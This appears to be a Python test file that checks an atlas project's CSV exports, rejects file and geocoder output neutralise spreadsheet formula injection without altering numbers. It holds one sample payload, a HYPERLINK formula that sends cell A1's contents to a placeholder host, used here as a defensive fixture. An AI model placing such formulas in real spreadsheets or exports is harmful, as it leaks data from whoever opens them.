"""Spreadsheet formula injection (issue 26, finding 7): every CSV the atlas writes shows
formula-looking text as text, and leaves numbers alone."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
import sqlalchemy as sa

from atlas import csvsafe
from loaders import pipeline

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Voir")'


@pytest.mark.parametrize("value, expected", [
    (FORMULA, "'" + FORMULA),
    ("+33 1 23", "'+33 1 23"), ("-2+3", "'-2+3"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1", "'\r=1"), ("-", "'-"),
    ("-61.5", "-61.5"), ("-61,534", "-61,534"), ("+33", "+33"), ("-1e-3", "-1e-3"),
    ("Ateliers = partage", "Ateliers = partage"), ("", ""), (None, None), (-61.5, -61.5),
])
def test_cell(value, expected):
    assert csvsafe.cell(value) == expected


def test_sql_rule_is_the_python_rule(engine):
    values = [FORMULA, "+33 1 23", "-2+3", "@x", "\t=1", "\r=1", "-", "-61.5", "-61,5",
              "+33", "-1e-3", "Ateliers = partage", ""]
    t = sa.func.unnest(sa.literal(values, sa.ARRAY(sa.Text))).table_valued(
        "v", with_ordinality="n").render_derived()
    stmt = sa.select(csvsafe.sql(t.c.v)).order_by(t.c.n)
    with engine.connect() as conn:
        assert list(conn.scalars(stmt)) == [csvsafe.cell(v) for v in values]


def _records(rows):
    return [dict(title=t, summary=s, year=2021, url=None, commune_insee=c, epci_siren=None,
                 lon=lon, lat=lat, source_id=str(n), geocode_method="test",
                 geocode_score=1.0, domains=["mediation"])
            for n, (t, s, c, lon, lat) in enumerate(rows)]


def test_csv_export_neutralises_formulas_not_numbers(clean, config):
    from loaders import initiatives
    from loaders.records import LoadReport
    from atlas.web import create_app

    rows = [(FORMULA, "-2+3 ateliers", "97105", -61.73, 15.99),  # Basse-Terre
            ("@atelier", "+ de 20 postes", "94076", None, None)]
    with pipeline.transaction(clean) as w:
        initiatives.merge(w.conn, _records(rows), "csv-test", LoadReport("csv-test"),
                          w.changes)
    client = create_app(config).test_client()
    data = client.get("/export/initiatives.csv?source=csv-test").get_data()
    df = pd.read_csv(io.BytesIO(data), sep=";", decimal=",", encoding="utf-8-sig",
                     dtype={"commune_insee": str})
    by_commune = df.set_index("commune_insee")
    assert by_commune.loc["97105", "title"] == "'" + FORMULA
    assert by_commune.loc["97105", "summary"] == "'-2+3 ateliers"
    assert by_commune.loc["97105", "lon"] == pytest.approx(-61.73)  # still a number
    assert by_commune.loc["94076", "title"] == "'@atelier"
    assert by_commune.loc["94076", "summary"] == "'+ de 20 postes"


def test_rejects_and_geocoder_output_neutralise_formulas(clean, atlas_cli, tmp_path):
    source = tmp_path / "fiches.csv"
    source.write_text(
        "id;titre;année;domaines;commune;lat;lon\n"
        f"1;\"{FORMULA.replace(chr(34), chr(34) * 2)}\";n/c;médiation;Basse-Terre;15.99;-61.73\n"
        "2;Atelier;2020;médiation;@Nowhere;;\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    r = atlas_cli("load", "initiatives", str(source), "--rejects", str(rejects))
    assert r.returncode == 0, r.stderr
    rows = {row["id"]: row for row in csv.DictReader(rejects.open(encoding="utf-8"))}
    assert rows["1"]["titre"] == "'" + FORMULA and rows["1"]["lon"] == "-61.73"
    assert rows["2"]["commune"] == "'@Nowhere"

    out = tmp_path / "geocoded.csv"
    r = atlas_cli("geocode", str(source), "-o", str(out))
    assert r.returncode == 0, r.stderr
    rows = {row["id"]: row for row in csv.DictReader(out.open(encoding="utf-8"))}
    assert rows["1"]["titre"] == "'" + FORMULA and rows["1"]["lon"] == "-61.73"
    assert rows["2"]["commune"] == "'@Nowhere"
